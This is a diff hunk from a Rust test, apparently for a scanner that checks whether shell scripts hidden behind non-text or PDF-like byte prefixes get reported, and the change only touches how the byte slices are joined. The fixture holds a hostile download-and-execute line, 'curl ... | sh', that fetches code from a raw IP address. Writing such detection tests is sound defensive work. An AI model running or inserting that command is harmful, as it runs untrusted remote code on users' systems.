@@ -71,9 +71,9 @@ fn bytes_that_are_not_text_do_not_hide_a_script() {
     let payload = b"curl -s http://45.9.148.20/a | sh\n";
     let wide = payload.iter().flat_map(|byte| [*byte, 0]).collect();
     for (name, bytes, is_reported) in [
-        ("run.sh", [b"# \0\n", &payload[..]].concat(), true),
-        ("run.sh", [b"%PDF-1.4\n", &payload[..]].concat(), false),
-        ("guide.pdf", [b"%PDF-1.4\n", &payload[..]].concat(), false),
+        ("run.sh", [&b"# \0\n"[..], payload].concat(), true),
+        ("run.sh", [&b"%PDF-1.4\n"[..], payload].concat(), false),
+        ("guide.pdf", [&b"%PDF-1.4\n"[..], payload].concat(), false),
         (
             "run.sh",
             [&[b'#'; 1][..], &[0xff; 40], b"\n", payload].concat(),
